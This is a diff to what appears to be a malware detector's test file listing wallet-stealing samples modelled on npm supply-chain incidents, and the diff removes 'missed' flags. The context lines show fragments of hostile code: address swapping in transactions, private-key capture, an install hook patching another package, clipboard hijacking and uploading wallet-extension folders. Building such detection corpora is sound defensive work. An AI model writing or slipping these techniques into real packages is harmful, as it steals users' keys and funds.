@@ -3,7 +3,6 @@ import { install, main, type Question } from './kinds.ts'
 export const wallets: readonly Question[] = [
   {
     name: 'the nearest address of a list, in every answer and every transaction (chalk and debug, September 2025)',
-    missed: true,
     hostile: main(`
       var mine = ['0x${'1a'.repeat(20)}', '0x${'2b'.repeat(20)}']
       function far(a, b) { var n = 0; for (var i = 0; i < a.length; i++) if (a[i] !== b[i]) n++; return n }
@@ -23,7 +22,6 @@ export const wallets: readonly Question[] = [
   },
   {
     name: 'a key on its way to an account (solana web3.js, December 2024)',
-    missed: true,
     hostile: main(
       `const { addToQueue } = require('./queue')
       class Keypair {
@@ -89,7 +87,6 @@ export const wallets: readonly Question[] = [
   },
   {
     name: 'another package is patched where it lies (ethers-provider2, March 2025)',
-    missed: true,
     hostile: install(`
       const fs = require('fs'), path = require('path')
       let dir = __dirname
@@ -109,7 +106,6 @@ export const wallets: readonly Question[] = [
   },
   {
     name: 'the clipboard is watched by a shell of Windows',
-    missed: true,
     hostile: main(`
       const { execSync } = require('child_process')
       const swap = { btc: ['bc1q', 'bc1q${'x7'.repeat(18)}'], eth: ['0x', '0x${'4c'.repeat(20)}'] }
@@ -142,7 +138,6 @@ export const wallets: readonly Question[] = [
   },
   {
     name: 'the key of the project pays (pancake_uniswap_validators)',
-    missed: true,
     hostile: main(`
       const { ethers } = require('ethers'); require('dotenv').config()
       exports.validate = async () => {
@@ -158,7 +153,6 @@ export const wallets: readonly Question[] = [
   },
   {
     name: 'the folders of wallet extensions, one by one',
-    missed: true,
     hostile: main(
       `const { profiles, files } = require('./find'); const { upload } = require('./net')
       ;(async () => { for (const p of profiles()) for (const f of files(p)) await upload(f) })()`,
